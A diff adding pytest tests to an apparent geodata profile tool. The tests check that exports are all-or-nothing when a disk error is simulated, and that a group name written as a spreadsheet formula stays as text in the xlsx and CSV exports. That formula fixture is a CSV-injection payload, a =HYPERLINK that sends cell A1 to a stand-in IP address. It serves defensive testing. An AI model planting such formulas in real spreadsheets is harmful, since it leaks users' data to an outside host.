@@ -6,6 +6,7 @@ non-zero exit and no partial file, and must never crash the process.
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import os
@@ -186,3 +187,46 @@ def test_a_killed_fetch_leaves_nothing_behind(tmp_path: Path) -> None:
     proc.wait(timeout=60)
     assert proc.returncode == 143, "the kill should land while the file is being copied"
     assert list(cache.glob("**/*.part")) == [] and not (cache / "sources" / "big" / "file.bin").exists()
+
+
+# --- 3. Formulas in the files a bid writer opens -----------------------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://198.51.100.7/?"&A1,"Sherwood")'
+
+
+def test_a_group_name_that_is_a_formula_stays_text_in_xlsx_and_csv(real_data: Path) -> None:
+    import openpyxl
+
+    from hiap_geo.render.profile.assemble import build_profile
+    from hiap_geo.render.profile.export import export
+
+    profile = build_profile(["E01024840", "E01024841"], name=FORMULA_NAME)
+    book = openpyxl.load_workbook(io.BytesIO(export(profile, "xlsx")))
+    formulas = [(ws.title, c.coordinate) for ws in book.worksheets for row in ws.iter_rows() for c in row
+                if c.data_type == "f"]
+    assert formulas == []
+    texts = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert FORMULA_NAME in texts  # shown exactly as typed, as text
+    rows = list(csv.reader(io.StringIO(export(profile, "csv").decode("utf-8-sig"))))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + FORMULA_NAME in cells and FORMULA_NAME not in cells
+
+
+def test_profile_files_are_all_or_nothing(real_data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from hiap_geo.render.profile import export as export_module
+    from hiap_geo.render.profile.assemble import build_profile
+
+    profile = build_profile("E01024840")
+    real_atomic = export_module.atomic_path
+    calls = {"n": 0}
+
+    def failing_third(final: Path):  # noqa: ANN202 - a context manager like atomic_path
+        calls["n"] += 1
+        if calls["n"] == 3:
+            raise OSError(28, "No space left on device", str(final))
+        return real_atomic(final)
+
+    monkeypatch.setattr(export_module, "atomic_path", failing_third)
+    with pytest.raises(OSError):
+        export_module.write_profile(profile, ["pdf", "csv", "xlsx", "geojson"], tmp_path / "out")
+    assert list((tmp_path / "out").iterdir()) == []
